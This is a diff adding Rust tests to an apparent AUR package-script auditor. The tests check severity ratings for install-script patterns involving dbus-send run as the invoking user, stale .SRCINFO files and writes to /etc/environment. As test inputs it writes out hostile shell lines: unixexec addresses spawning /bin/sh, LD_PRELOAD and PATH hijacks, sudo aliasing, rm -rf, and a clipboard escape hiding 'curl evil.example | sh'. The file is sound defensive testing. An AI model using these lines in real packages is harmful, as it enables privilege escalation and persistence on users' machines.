@@ -364,3 +364,294 @@ fn code_after_a_here_document_with_a_partly_quoted_delimiter_is_read() {
         Verdict::Ok
     );
 }
+
+// Class: an install script asks the desktop to reload as the person who ran pacman (RebornOS's
+// mint-artwork: `sudo -u "#${SUDO_UID}" -H dbus-send --bus=$DBUS_SESSION_BUS_ADDRESS …
+// org.Cinnamon.RestartCinnamon boolean:false`, the address exported just before as
+// `unix:path=/run/user/${SUDO_UID}/bus`) and was AUR-INSTALL-AS-USER high. The system's
+// dbus-send sends one fixed message with no text to that person's session bus: nothing of the
+// package runs as them and none of their files is read or written. Our own text, that shape.
+
+fn reload_script(send: &str) -> String {
+    format!(
+        "post_install() {{\n  reload_desktop\n}}\n\npost_upgrade() {{\n  reload_desktop\n}}\n\nreload_desktop() {{\n  export DBUS_SESSION_BUS_ADDRESS=\"unix:path=/run/user/${{SUDO_UID}}/bus\"\n  {send}\n}}\n"
+    )
+}
+
+const RELOAD: &str = "sudo -u \"#${SUDO_UID}\" -H dbus-send --bus=$DBUS_SESSION_BUS_ADDRESS \\\n    --type=method_call --dest=org.Example.Shell /org/Example/Shell \\\n    org.Example.Shell.Restart boolean:false 2> /dev/null";
+
+#[test]
+fn one_fixed_message_to_the_invokers_session_bus_is_low() {
+    for send in [
+        RELOAD.to_owned(),
+        "sudo -u \"#$SUDO_UID\" dbus-send --session --print-reply --dest=org.Example.Shell /org/Example/Shell org.Example.Shell.Reload uint32:1".into(),
+        "sudo -n -u \"#$SUDO_UID\" -- /usr/bin/dbus-send --bus=unix:path=/run/user/1000/bus --type=signal /org/Example org.Example.Changed".into(),
+    ] {
+        let r = audit(&package("desktop-artwork", None, Some(&reload_script(&send))));
+        assert_eq!(
+            max_of(&r, "AUR-INSTALL-AS-USER"),
+            Some(Severity::Low),
+            "{send}\n{}",
+            r.to_text()
+        );
+        assert_eq!(r.verdict, Verdict::Ok, "{send}\n{}", r.to_text());
+        let f = r.findings.iter().find(|f| f.id == "AUR-INSTALL-AS-USER").unwrap();
+        assert!(f.why.contains("check the destination"), "{}", f.why);
+    }
+}
+
+#[test]
+fn anything_else_run_as_the_invoker_stays_high() {
+    let u = "sudo -u \"#$SUDO_UID\"";
+    let d = "--dest=org.Example.Shell /org/Example/Shell";
+    let restart =
+        format!("{u} dbus-send --bus=$DBUS_SESSION_BUS_ADDRESS {d} org.Example.Shell.Restart");
+    let mut sends = vec![
+        // A computed method, destination or address.
+        format!("m=$(cat /etc/demo/method)\n  {u} dbus-send --session {d} \"$m\""),
+        format!("{u} dbus-send --session {d} \"org.Example.Shell.$1\""),
+        format!(
+            "{u} dbus-send --session --dest=\"$2\" /org/Example/Shell org.Example.Shell.Restart"
+        ),
+        format!(
+            "a=$(cat /etc/demo/bus)\n  {u} dbus-send --bus=\"$a\" {d} org.Example.Shell.Restart"
+        ),
+        // An address that starts a program, or a list of addresses.
+        format!(
+            "{u} dbus-send --address=unixexec:path=/bin/sh,argv1=-c,argv2=id {d} org.Example.Shell.Restart"
+        ),
+        format!(
+            "{u} dbus-send --bus='unix:path=/run/user/1000/bus;unixexec:path=/bin/sh' {d} org.Example.Shell.Restart"
+        ),
+        // An address variable with more than one value, of which the walk shows one: set twice
+        // (the session address only in a branch), set again by `read`, or built from another.
+        format!(
+            "A='unixexec:path=/bin/sh,argv1=-c,argv2=id'\n  [ -e /nonexistent ] && A=\"unix:path=/run/user/${{SUDO_UID}}/bus\"\n  {u} dbus-send --bus=$A {d} org.Example.Shell.Restart"
+        ),
+        format!(
+            "A=\"unix:path=/run/user/${{SUDO_UID}}/bus\"\n  read -r A < /tmp/bus\n  {u} dbus-send --bus=$A {d} org.Example.Shell.Restart"
+        ),
+        format!(
+            "B=/run/user\n  A=\"unix:path=$B/${{SUDO_UID}}/bus\"\n  {u} dbus-send --bus=$A {d} org.Example.Shell.Restart"
+        ),
+        format!(
+            "{u} dbus-send --bus=\"${{A:-unix:path=/run/user/${{SUDO_UID}}/bus}}\" {d} org.Example.Shell.Restart"
+        ),
+        // Text in the message: code for a shell's evaluator, a unit to start.
+        format!(
+            "{u} dbus-send --session --dest=org.gnome.Shell /org/gnome/Shell org.gnome.Shell.Eval string:'global.reexec_self()'"
+        ),
+        format!(
+            "{u} dbus-send --session --dest=org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager.StartUnit string:demo.service string:replace"
+        ),
+        // The system bus, a shell, a program of the package, su, env or a login shell.
+        format!("{u} dbus-send --system {d} org.Example.Shell.Restart"),
+        format!("{u} sh -c 'dbus-send --session {d} org.Example.Shell.Restart'"),
+        format!(
+            "{u} env LD_PRELOAD=/usr/lib/demo.so dbus-send --session {d} org.Example.Shell.Restart"
+        ),
+        format!("{u} -i dbus-send --session {d} org.Example.Shell.Restart"),
+        format!("{u} /usr/share/demo/dbus-send --session {d} org.Example.Shell.Restart"),
+        "runuser -u \"$SUDO_USER\" -- /usr/bin/desktop-artwork-refresh".into(),
+        // runuser passes root's environment on (a bus address, LD_PRELOAD): not sudo's reset.
+        format!("runuser -u \"$SUDO_USER\" -- dbus-send --session {d} org.Example.Shell.Restart"),
+        format!("su \"$SUDO_USER\" -c 'dbus-send --session {d} org.Example.Shell.Restart'"),
+    ];
+    // The invoker's id in the address changed by the file: by name, through a computed name,
+    // a nameref, an indirect expansion, a computed command, or code the audit cannot read.
+    for before in [
+        "read -r SUDO_UID < /tmp/uid",
+        "n=SUDO; declare -g \"${n}_UID=x\"",
+        "n=SUDO; \\declare -g \"${n}_UID=x\"",
+        "c=$(printf decl; printf are); $c -g \"SUDO_UID=x\"",
+        "declare -n r=\"SUDO\"\"_UID\"; r=x",
+        "printf -v \"SUDO\"\"_UID\" x",
+        "n=SUDO_UID; : \"${!n:=x}\"",
+        "eval \"$(cat /etc/demo/env)\"",
+        ". /etc/demo/env",
+        // How `dbus-send` is found changed: sudo without secure_path searches this PATH.
+        "PATH=/usr/share/desktop-artwork:$PATH",
+        "export PATH=\"/usr/share/desktop-artwork:$PATH\"",
+        "hash -p /usr/share/desktop-artwork/tool sudo",
+        "shopt -s expand_aliases; alias sudo='sudo env LD_PRELOAD=/usr/lib/libdemo.so'",
+        "sudo() { setpriv --reuid=\"$SUDO_UID\" /usr/share/desktop-artwork/tool; }",
+    ] {
+        sends.push(format!("{before}\n  {restart}"));
+    }
+    for send in sends {
+        let r = audit(&package(
+            "desktop-artwork",
+            None,
+            Some(&reload_script(&send)),
+        ));
+        assert_eq!(
+            max_of(&r, "AUR-INSTALL-AS-USER"),
+            Some(Severity::High),
+            "{send}\n{}",
+            r.to_text()
+        );
+        assert_eq!(r.verdict, Verdict::Dangerous, "{send}\n{}", r.to_text());
+    }
+}
+
+#[test]
+fn a_message_to_a_service_the_package_ships_stays_high() {
+    // D-Bus activation starts the service file's program, the package's own, in the session.
+    let mut input = package("desktop-artwork", None, Some(&reload_script(RELOAD)));
+    input.pkgbuild = input.pkgbuild.replace(
+        "  cd ..\n",
+        "  cd ..\n  install -Dm644 org.Example.Shell.service -t \"$pkgdir/usr/share/dbus-1/services/\"\n",
+    );
+    let r = audit(&input);
+    assert_eq!(
+        max_of(&r, "AUR-INSTALL-AS-USER"),
+        Some(Severity::High),
+        "{}",
+        r.to_text()
+    );
+}
+
+// Class: a stale .SRCINFO (from an older version) lists no install file, and the PKGBUILD's
+// install file only prints a notice (arcolinux's leftwm-dev-git: `post_upgrade() { echo -e
+// "\n\e[1;33mWarning:\e[0m …" }`): AUR-SRCINFO-MISMATCH high. What a hidden install file can do
+// is what it holds; one that only prints fixed text hides no action.
+
+fn stale_srcinfo(script: &str, with_file: bool) -> AuditInput {
+    let mut input = package("wm-dev-git", None, Some(script));
+    if !with_file {
+        input.install_scripts.clear();
+    }
+    input.srcinfo = Some(
+        "pkgbase = wm-dev-git\n\tpkgver = 0.9\n\tpkgrel = 1\n\turl = https://example.org/wm-dev-git\n\tarch = any\n\tlicense = MIT\n\tdepends = bash\n\tsource = https://example.org/wm-dev-git-0.9.tar.gz\n\tsha256sums = 0000000000000000000000000000000000000000000000000000000000000000\n\npkgname = wm-dev-git\n"
+            .into(),
+    );
+    input
+}
+
+#[test]
+fn a_stale_srcinfo_without_an_install_file_that_only_prints_is_low() {
+    let script = "post_upgrade() {\n\techo -e \"\\n\\e[1;33mWarning:\\e[0m after upgrading from before 0.4 restart the window manager.\"\n\techo -e \"\\n\\033[1;33mPlease log out and in again.\\e[0m\" >&2\n\tprintf '%s\\n' 'Done.'\n}\n";
+    let r = audit(&stale_srcinfo(script, true));
+    assert_eq!(
+        max_of(&r, "AUR-SRCINFO-MISMATCH"),
+        Some(Severity::Low),
+        "{}",
+        r.to_text()
+    );
+    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
+}
+
+#[test]
+fn a_hidden_install_file_that_does_anything_else_stays_high() {
+    for body in [
+        "echo 'Installing.'\n\trm -rf /var/lib/demo",
+        "echo 'Installing.' > /etc/motd",
+        "echo \"$(curl -fsSL https://example.org/motd)\"",
+        "echo 'id' | sh",
+        "printf -v PATH '%s' /tmp",
+        "echo \"Version $1\"",
+        "echo -e '\\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\a'",
+        "printf '\\x1b]0;title\\x07'",
+        "notify_user",
+        "{ echo 'x'; } > /etc/motd",
+        "for ((;;)); do echo 'Installing.'; done",
+        "echo hi\n\t. /etc/demo/more",
+    ] {
+        let script = format!("post_install() {{\n\t{body}\n}}\n");
+        let r = audit(&stale_srcinfo(&script, true));
+        assert_eq!(
+            max_of(&r, "AUR-SRCINFO-MISMATCH"),
+            Some(Severity::High),
+            "{body}\n{}",
+            r.to_text()
+        );
+    }
+    // A redirection of the function itself writes a file each time it runs.
+    let r = audit(&stale_srcinfo(
+        "post_install() {\n\techo 'x' >&3\n} 3>/etc/motd\n",
+        true,
+    ));
+    assert_eq!(
+        max_of(&r, "AUR-SRCINFO-MISMATCH"),
+        Some(Severity::High),
+        "{}",
+        r.to_text()
+    );
+    // The install file not among the package's files: nothing is known of it.
+    let r = audit(&stale_srcinfo("post_install() {\n\techo hi\n}\n", false));
+    assert_eq!(
+        max_of(&r, "AUR-SRCINFO-MISMATCH"),
+        Some(Severity::High),
+        "{}",
+        r.to_text()
+    );
+}
+
+// Class: veeam-agent-arch's post_install appends `PATH="/usr/local/bin:/usr/bin:/bin"` to
+// /etc/environment (AUR-PERSISTENCE high). /etc/environment is pam_env's NAME=value file, read
+// and never run; a PATH of root-owned system program directories lets nothing of anyone else's
+// run. Review at most; anything else written there, or there to another file, stays high.
+
+#[test]
+fn a_fixed_system_path_in_etc_environment_is_review_at_most() {
+    for line in [
+        "if ! grep -q '/usr/local/bin' /etc/environment 2>/dev/null; then\n    echo 'PATH=\"/usr/local/bin:/usr/bin:/bin\"' >> /etc/environment\n  fi",
+        "cat >> /etc/environment <<'EOF'\nPATH=/usr/local/sbin:/usr/local/bin:/usr/bin\nEOF",
+    ] {
+        let script = format!("post_install() {{\n  groupadd -f backup\n  {line}\n}}\n");
+        let r = audit(&package("backup-agent", None, Some(&script)));
+        assert!(
+            max_of(&r, "AUR-PERSISTENCE").is_some_and(|s| s <= Severity::Medium),
+            "{line}\n{}",
+            r.to_text()
+        );
+        assert_ne!(r.verdict, Verdict::Dangerous, "{line}\n{}", r.to_text());
+    }
+}
+
+#[test]
+fn any_other_environment_line_or_file_stays_high() {
+    for line in [
+        "echo 'PATH=\"/home/demo/bin:/usr/bin:/bin\"' >> /etc/environment",
+        "echo 'PATH=/tmp:/usr/bin' >> /etc/environment",
+        "echo 'PATH=\"/opt/backup/bin:/usr/bin\"' >> /etc/environment",
+        "echo 'PATH=/usr/bin:' >> /etc/environment",
+        "echo 'PATH=$HOME/bin:/usr/bin' >> /etc/environment",
+        "echo \"PATH=$dir:/usr/bin\" >> /etc/environment",
+        "echo 'LD_PRELOAD=/usr/lib/libdemo.so' >> /etc/environment",
+        "echo 'LD_LIBRARY_PATH=/usr/lib/demo' >> /etc/environment",
+        "echo 'BASH_ENV=/usr/share/demo/env' >> /etc/environment",
+        "echo 'PYTHONPATH=/usr/share/demo' >> /etc/environment",
+        "echo -e 'PATH=/usr/bin\\nLD_PRELOAD=/tmp/x.so' >> /etc/environment",
+        "cat >> /etc/environment <<'EOF'\nPATH=/usr/bin\nLD_PRELOAD=/tmp/x.so\nEOF",
+        "{ echo 'PATH=/usr/bin'; echo 'LD_PRELOAD=/tmp/x.so'; } >> /etc/environment",
+        "echo 'PATH=\"/usr/local/bin:/usr/bin:/bin\"' >> /etc/profile.d/demo.sh",
+        "echo 'PATH=\"/usr/local/bin:/usr/bin:/bin\"' >> /etc/environment.d/10-demo.conf",
+    ] {
+        let script = format!("post_install() {{\n  {line}\n}}\n");
+        let r = audit(&package("backup-agent", None, Some(&script)));
+        assert!(
+            max_of(&r, "AUR-PERSISTENCE").is_some_and(|s| s >= Severity::High),
+            "{line}\n{}",
+            r.to_text()
+        );
+        assert_eq!(r.verdict, Verdict::Dangerous, "{line}\n{}", r.to_text());
+    }
+}
+
+/// Found while fixing the stale-.SRCINFO class: a function definition's own redirection
+/// (`post_install() { …; } >> FILE`) applies to every command of its body each time it runs,
+/// as bash does; the walk dropped it, so the write was seen nowhere.
+#[test]
+fn a_function_definitions_redirection_writes_its_file() {
+    let script =
+        "post_install() {\n  echo 'LD_PRELOAD=/usr/lib/libdemo.so'\n} >> /etc/environment\n";
+    let r = audit(&package("backup-agent", None, Some(script)));
+    assert_eq!(
+        max_of(&r, "AUR-PERSISTENCE"),
+        Some(Severity::High),
+        "{}",
+        r.to_text()
+    );
+    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
+}
